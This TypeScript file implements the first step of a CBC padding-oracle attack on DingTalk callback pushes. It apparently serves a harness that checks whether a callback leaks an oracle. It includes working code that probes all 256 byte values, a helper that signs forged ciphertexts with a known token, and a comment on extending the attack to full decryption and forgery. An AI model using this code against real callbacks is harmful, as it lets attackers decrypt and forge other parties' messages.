import { randomBytes } from 'node:crypto';
import { sign } from '../core/crypto';
import type { Push } from '../core/dingtalk-side';

/** What the attacker sees of one request: whatever tells two answers apart. */
export type Probe = (ciphertext: string) => Promise<string>;

/** What an attack learnt, and what it cost. */
export interface OracleAttack {
  requests: number;
  /** Each distinct observation, with how many requests got it. */
  observations: Map<string, number>;
  /** AES-decrypt(block)'s last byte, when the observations gave it away; from it and the block before, a plaintext byte follows. */
  intermediate?: number;
}

/**
 * The first step of a CBC padding-oracle attack, as someone who knows `DINGTALK_TOKEN` but not the
 * AES key runs it against a callback: it sends `R | block` for the 256 values of R's last byte and
 * looks for the one whose plaintext ends in a valid one-byte pad (DingTalk pads to 32 bytes, so a
 * last byte of 1 is a valid pad), confirming it by changing R's byte before. Given it, the same
 * step byte by byte decrypts any captured block, and the blocks decrypted chain into a forged
 * ciphertext. If all 256 answers look alike there is nothing to go on: the attack ends there.
 */
export async function attackLastByte(probe: Probe, block: Buffer): Promise<OracleAttack> {
  const observations = new Map<string, number>();
  let requests = 0;
  const ask = async (prefix: Buffer) => {
    requests += 1;
    const seen = await probe(Buffer.concat([prefix, block]).toString('base64'));
    observations.set(seen, (observations.get(seen) ?? 0) + 1);
    return seen;
  };
  const prefixWith = (last: number, beforeLast = 0) => Buffer.from([...Buffer.alloc(14), beforeLast, last]);
  const seen: string[] = [];
  for (let value = 0; value < 256; value++) seen.push(await ask(prefixWith(value)));
  const usual = [...observations].sort((a, b) => b[1] - a[1])[0]![0];
  for (const [value, observation] of seen.entries()) {
    // A longer valid pad also depends on the byte before: a one-byte pad does not.
    if (observation !== usual && (await ask(prefixWith(value, 0xff))) !== usual) return { requests, observations, intermediate: value ^ 1 };
  }
  return { requests, observations };
}

/** A push of `ciphertext` that passes the signature check: what the token alone allows. */
export function signedWithToken(token: string, ciphertext: string): Push {
  const timestamp = String(Date.now());
  const nonce = randomBytes(6).toString('hex');
  return { query: { signature: sign(token, timestamp, nonce, ciphertext), timestamp, nonce }, body: JSON.stringify({ encrypt: ciphertext }) };
}

/** The last 16-byte block of a captured push's ciphertext: what the attack would decrypt. */
export function lastBlock(push: Push): Buffer {
  const ciphertext = Buffer.from((JSON.parse(push.body) as { encrypt: string }).encrypt, 'base64');
  return ciphertext.subarray(-16);
}
